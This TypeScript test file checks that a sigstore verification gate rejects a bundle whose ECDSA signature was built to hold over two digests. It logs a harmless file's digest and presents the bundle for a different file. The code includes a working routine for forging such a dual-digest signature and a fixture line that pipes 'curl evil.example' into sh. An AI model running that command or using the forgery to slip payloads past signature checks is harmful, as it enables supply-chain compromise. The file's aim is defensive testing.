// A message signature (release files, verify-bundle) is bound to the bytes by its signature and
// to the log by its messageDigest: the two must name the same bytes. With a key it chooses, a
// signer can make one ECDSA signature hold over two digests (d = -(e1 + e2) / 2r): it logs a
// harmless file's digest and ships a bundle that verifies over another file.
import crypto from 'node:crypto'
import fs from 'node:fs'
import os from 'node:os'
import path from 'node:path'
import { bundleToJSON } from '@sigstore/bundle'
import { MessageSignatureBundleBuilder, type Signature, type Signer } from '@sigstore/sign'
import { parseInputs } from '../../src/inputs.js'
import { run } from '../../src/main.js'
import { gateFixture, testDeps } from '../helpers/gate.js'
import { MockRekorWitness, derToPem, githubIdentity } from '../helpers/mini-sigstore.js'

const N = 0xffffffff00000000ffffffffffffffffbce6faada7179e84f3b9cac2fc632551n
const mod = (a: bigint) => ((a % N) + N) % N
const inv = (a: bigint): bigint => {
  let [t, nt, r, nr] = [0n, 1n, N, mod(a)]
  while (nr !== 0n) {
    const q = r / nr
    ;[t, nt] = [nt, t - q * nt]
    ;[r, nr] = [nr, r - q * nr]
  }
  return mod(t)
}
const hex32 = (x: bigint) => Buffer.from(x.toString(16).padStart(64, '0'), 'hex')
const big = (b: Buffer) => BigInt(`0x${b.toString('hex')}`)
const sha256 = (b: Buffer) => crypto.createHash('sha256').update(b).digest()
const point = (k: bigint) => {
  const ecdh = crypto.createECDH('prime256v1')
  ecdh.setPrivateKey(hex32(k))
  return ecdh.getPublicKey() // 04 || x || y
}
const derInt = (x: bigint) => {
  let b = Buffer.from(x.toString(16).padStart(64, '0'), 'hex')
  while (b.length > 1 && b[0] === 0 && b[1]! < 0x80) b = b.subarray(1)
  if (b[0]! >= 0x80) b = Buffer.concat([Buffer.from([0]), b])
  return Buffer.concat([Buffer.from([0x02, b.length]), b])
}

/** A P-256 key and one signature valid over both sha256(a) and sha256(b). */
function dualSignature(a: Buffer, b: Buffer) {
  const e1 = big(sha256(a))
  const e2 = big(sha256(b))
  for (;;) {
    const k = mod(big(crypto.randomBytes(32)))
    if (k === 0n) continue
    const r = mod(big(point(k).subarray(1, 33)))
    const d = mod(-(e1 + e2) * inv(2n * r))
    if (r === 0n || d === 0n) continue
    const s = mod(inv(k) * (e1 + r * d))
    if (s === 0n) continue
    const body = Buffer.concat([derInt(r), derInt(s)])
    const sig = Buffer.concat([Buffer.from([0x30, body.length]), body])
    const pub = point(d)
    const publicKey = crypto.createPublicKey({
      key: {
        kty: 'EC',
        crv: 'P-256',
        x: pub.subarray(1, 33).toString('base64url'),
        y: pub.subarray(33).toString('base64url'),
      },
      format: 'jwk',
    })
    return { sig, publicKey }
  }
}

const SAN = 'https://github.com/acme/app/.github/workflows/release.yml@refs/tags/v1.0.0'
const { ss, root } = await gateFixture()

async function gateFile(bytes: Buffer, bundle: unknown) {
  const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'scg-message-digest-'))
  fs.writeFileSync(path.join(dir, 'install.sh'), bytes)
  fs.writeFileSync(path.join(dir, 'install.sh.sigstore.json'), JSON.stringify(bundle))
  const values: Record<string, string> = {
    'subject-path': path.join(dir, 'install.sh'),
    'trusted-root': root,
    'certificate-identity': SAN,
  }
  return run(await parseInputs((name) => values[name] ?? ''), testDeps())
}

test('a signature that holds over the file, logged over another digest, verifies nothing', async () => {
  const harmless = Buffer.from('harmless release notes\n')
  const malicious = Buffer.from('#!/bin/sh\ncurl evil.example | sh\n')
  const { sig, publicKey } = dualSignature(malicious, harmless)
  expect(crypto.verify('sha256', harmless, publicKey, sig)).toBe(true)
  expect(crypto.verify('sha256', malicious, publicKey, sig)).toBe(true)
  const der = await ss.ca.issueCertificate({
    publicKey: new Uint8Array(publicKey.export({ format: 'der', type: 'spki' })),
    subjectAltName: SAN,
    extensions: githubIdentity().extensions,
  })
  const signer: Signer = {
    async sign(): Promise<Signature> {
      return { signature: sig, key: { $case: 'x509Certificate', certificate: derToPem(der) } }
    },
  }
  // Logged, as Rekor would accept it, over the harmless text: messageDigest is its sha256.
  const witnesses = [new MockRekorWitness(ss.tlog)]
  const bundle = bundleToJSON(
    await new MessageSignatureBundleBuilder({ signer, witnesses }).create({ data: harmless }),
  )
  const result = await gateFile(malicious, bundle)
  expect(result.verdict).toBe('fail')
  expect(result.images[0]!.evidence[0]).toMatchObject({ signed: true, verified: false })
  expect(result.images[0]!.evidence[0]!.error).toContain(
    'the message signature logs the digest of other bytes than these',
  )
  // The harmless text itself, which the log does hold, passes.
  expect((await gateFile(harmless, bundle)).verdict).toBe('pass')
})
